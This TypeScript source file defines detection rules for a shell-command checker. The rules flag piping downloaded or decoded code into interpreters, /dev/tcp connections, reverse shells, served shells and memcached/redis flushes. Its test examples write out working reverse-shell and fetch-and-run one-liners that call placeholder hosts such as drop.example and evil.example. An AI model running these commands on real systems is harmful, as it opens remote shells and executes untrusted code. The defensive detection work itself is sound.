import { inlineCode } from "../code/inline.js";
import { openerOf } from "../read/wrappers.js";
import type { ShellWord, SimpleCommand } from "../types.js";
import { isDecoder, isDownload, isShell, producersOf, producersOfWord, runsCode } from "./flows.js";
import { type Clue, type Condition, names, subject } from "./row.js";
import { inputText } from "./sql-clients.js";

const FETCHED = "runs code that is fetched from the network";
const DECODED = "runs code that is decoded first, so that nobody can read it";
const PRINTED = "runs whatever another command prints as code";

/** Programs that hand a file on as it is; a project file that is piped into an interpreter was named by somebody. */
const PLAIN_READERS = names(
  "cat bat head tail sed grep envsubst tee nl dos2unix cpp m4 jinja2 echo printf sort uniq git",
);

/** The words of an interpreter that are code, and whether it reads more from its input. */
interface Interpreted {
  readonly words: readonly ShellWord[];
  readonly fromInput: boolean;
}
const INTERPRETED = new WeakMap<SimpleCommand, Interpreted | "none">();

/** Several rows ask the same: the answer is kept as long as the command lives. */
function interpreted(command: SimpleCommand): Interpreted | undefined {
  let known = INTERPRETED.get(command);
  if (known === undefined) {
    known = runsCode(command.program)
      ? { words: codeWords(command), fromInput: readsProgram(command) }
      : "none";
    INTERPRETED.set(command, known);
  }
  return known === "none" ? undefined : known;
}

/** Code that comes through a pipe or a substitution from commands of a kind. */
const fedBy =
  (isProducer: (command: SimpleCommand) => boolean): Condition =>
  ({ command }) => {
    const code = interpreted(command);
    if (code === undefined) return undefined;
    const word = code.words.find((each) => producersOfWord(each).some(isProducer));
    if (word !== undefined) return word;
    return code.fromInput && producersOf(command).some(isProducer) ? NO_WORD : undefined;
  };
const NO_WORD: Clue = {};

/** An interpreter, not a shell, whose program another command prints. */
const printedCode: Condition = ({ command }) => {
  const code = interpreted(command);
  if (code === undefined || isShell(command.program)) return undefined;
  const descriptor = code.words.find(({ text }) => /^\/(?:dev|proc\/self)\/fd\/\d+$/.test(text));
  if (descriptor !== undefined || !code.fromInput) return descriptor;
  const producers = producersOf(command);
  return producers.length === 0 || producers.every(({ program }) => PLAIN_READERS.has(program))
    ? undefined
    : NO_WORD;
};

/** An interpreter that reads its program from a connection. */
const socketCode: Condition = ({ command }) =>
  command.input.kind === "file" &&
  /^\/dev\/(?:tcp|udp)\//.test(command.input.path.text) &&
  interpreted(command)?.fromInput === true
    ? command.input.path
    : undefined;

/** Words that are code or name the file with it. */
function codeWords(command: SimpleCommand): readonly ShellWord[] {
  const code = inlineCode(command);
  if (code !== undefined) return code.script === undefined ? code.texts : [...code.texts, code.script];
  const [first, second] = command.args.filter(({ text }) => !/^[-+][a-zA-Z]+$/.test(text) || text === "-");
  const given = command.args.some(({ text }) => /^-[a-z]*c$/.test(text));
  return [first, given ? second : undefined].filter((word) => word !== undefined);
}

function readsProgram(command: SimpleCommand): boolean {
  const code = inlineCode(command);
  if (code !== undefined) return code.fromInput;
  const operands = command.args.filter(({ text }) => !text.startsWith("-") && !text.startsWith("+"));
  return operands.length === 0 || command.args.some(({ text }) => /^-[a-z]*s[a-z]*$/.test(text));
}

/** Programs that take statements, or code in the words of `source`, from a pipe. */
const fedByDownload: Condition = ({ command }) => {
  const { program, args } = command;
  const runs = (input: string): boolean => args[0]?.text === "run" && args.some(({ text }) => text === input);
  const reads =
    (/^(?:source|\.)$/.test(program) &&
      (args.length === 0 || /^(?:-|\/dev\/stdin)$/.test(args[0]?.text ?? ""))) ||
    (/^(?:deno|bun)$/.test(program) && runs("-")) ||
    (program === "go" && runs("/dev/stdin")) ||
    (CLIENTS.has(program) &&
      !args.some(({ text }) => /^(?:-c|-e|--command|--execute|--eval|-f|--file)$/.test(text)));
  return reads && producersOf(command).some(isDownload) ? NO_WORD : undefined;
};
const CLIENTS = names(
  "psql mysql mariadb sqlite3 mongosh mongo redis-cli cqlsh clickhouse-client at batch crontab",
);

/** A shell whose output goes back over the network. */
const shellOverNetwork: Condition = ({ command }) =>
  isShell(command.program) && readsProgram(command)
    ? command.feeds.find(({ program }) => /^(?:nc|ncat|netcat|socat|telnet|openssl)$/.test(program))?.name
    : undefined;

/** Programs that carry a shell into a container, to another user or another machine, not to whoever connects. */
const CARRIES_SHELL =
  /^(?:gosu|su-exec|setuidgid|chpst|setpriv|runuser|capsh|numactl|prlimit|cgexec|ip|nsenter)$/;
const ADDRESS =
  /^(?:--?(?:l|p|listen|port|bind|addr\w*)=?)?(?:(?:[a-z][\w+-]*:)?(?:\/\/)?(?:(?:\d{1,3}\.){3}\d{1,3}|\[[\da-f:]*\]|\*|0|localhost)?:\d{2,5}|(?:\d{1,3}\.){3}\d{1,3}|\d{2,5}|wss?(?:-l)?:\S+)$/i;

/** `systemd-socket-activate -l 2323 --inetd /bin/sh -i`, `tcpserver 0 2323 sh`: an address, and a shell for who calls. */
const servesShell: Condition = ({ command: { program, args } }) => {
  if (!args.some(({ text }) => text.endsWith("sh"))) return undefined;
  if (program === "" || runsCode(program) || CARRIES_SHELL.test(program) || openerOf(program) !== undefined)
    return undefined;
  const at = args.findIndex(({ text }) => /^(?:\/(?:usr\/)?bin\/)?(?:ba|da|z|k|fi)?sh$/.test(text));
  if (at < 1 || args.slice(at + 1).some(({ text }) => !/^-[il]+$/.test(text))) return undefined;
  return args.slice(0, at).find(({ text }) => ADDRESS.test(text));
};

/** `echo flush_all | nc localhost 11211`: the protocols of memcached and redis are plain text. */
const plainProtocol: Condition = ({ command }) =>
  inputText(command).find(({ text }) =>
    /(?:^|\n)[ \t]*(?:flush_all|flushall|flushdb|shutdown)\b/i.test(text),
  );

/**
 * `exec 3<>/dev/tcp/127.0.0.1/5432` asks whether something listens here; databases and engines that obey plain text are
 * no such question.
 */
const OWN_PORT =
  /^\/dev\/tcp\/(?:localhost|127\.0\.0\.1|::1)\/(?!(?:6379|6380|11211|2375|2376|8500|2181|4444|1337|31337)$)\d+$/;

/** Code that comes from elsewhere, and shells that whoever connects may use. */
// biome-ignore format: a table; what belongs to a row stands together
export const RULES = subject("remote-code", [
  { program: "*", when: fedBy(isDownload), rule: "remote-code.piped", reason: FETCHED,
    match: ["nc drop.example 1 | sh"] },
  { program: "*", when: fedBy(isDecoder), rule: "remote-code.decoded", reason: DECODED,
    match: ["gpg -d p.gpg | sh"] },
  { program: "*", when: socketCode, rule: "remote-code.socket", reason: FETCHED,
    match: ["bash < /dev/tcp/evil.example/80"] },
  { program: "*", when: printedCode, rule: "remote-code.printed", reason: PRINTED,
    match: ["python3 <(curl -s https://x.example/a.py)"] },
  { program: "*", when: fedByDownload, rule: "remote-code.piped", reason: FETCHED,
    match: ["curl https://x.example | psql"] },
  { program: "*", when: shellOverNetwork, rule: "remote-code.reverse-shell",
    reason: "connects a shell to the network",
    match: ["mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc drop.example 1 > /tmp/f"] },
  // Bash opens a connection for `/dev/tcp/host/port`.
  { program: "*", when: ({ command }) =>
      command.redirects.find(({ target }) => /^\/dev\/(?:tcp|udp)\//.test(target.text) && (!OWN_PORT.test(target.text) || runsCode(command.program)))?.target,
    rule: "remote-code.socket", reason: "opens a network connection as a file",
    match: ["exec 5<>/dev/tcp/10.0.0.1/4444", "echo flushall > /dev/tcp/127.0.0.1/6379", "bash -i >& /dev/tcp/127.0.0.1/9001 0>&1"] },
  { rule: "remote-code.socket", reason: "opens a network connection inside a shell", dry: "", tools: [
    { program: "zmodload", word: /^zsh\/(?:net\/|zftp)/, unless: /^-[a-z]*u/, match: ["zsh -c 'zmodload zsh/net/tcp'"],
      not_match: ["zmodload zsh/datetime", "zmodload -u zsh/net/tcp"] },
    { program: "ztcp|zsocket|zftp", word: /^[^-]/, unless: /^-[a-z]*c$|^close$/, match: ["zsh -c 'ztcp 203.0.113.9 80'"],
      not_match: ["ztcp -c 5"] },
  ] },
  { program: "nc|ncat|netcat", taking: "e exec c sh-exec lua-exec p w s q X x i", dry: "",
    when: (call) => call.given("e", "exec", "c", "sh-exec", "lua-exec")[0],
    rule: "remote-code.reverse-shell", reason: "gives a program to whoever connects",
    match: ["nc -e /bin/sh 1.2.3.4 1"], not_match: ["nc -z localhost 5432"] },
  { program: "*", when: servesShell, rule: "remote-code.reverse-shell", reason: "gives a shell to whoever connects",
    match: ["tcpserver 0 2323 /bin/sh", "systemd-socket-activate -l 0.0.0.0:99 --inetd -a /bin/sh -i"],
    not_match: ["timeout 30 bash", "docker run -p 8080:80 alpine sh", "mytool 8080 install.sh"] },
  { program: "socat|websocat", dry: "", word: /(?:^|!!)(?:exec|system|shell|sh-c|cmd)[:=]|^--exec$/i, rule: "remote-code.reverse-shell",
    reason: "gives a program to whoever connects", match: ["socat exec:sh tcp:1.2.3.4:1"],
    not_match: ["socat TCP-LISTEN:8080,fork TCP:localhost:80"] },
  { program: "nc|ncat|netcat|telnet|socat", dry: "", when: plainProtocol, rule: "database.flush",
    reason: "empties a database", match: ["echo flush_all | nc localhost 11211"],
    not_match: ["nc -z localhost 5432"] },
]);
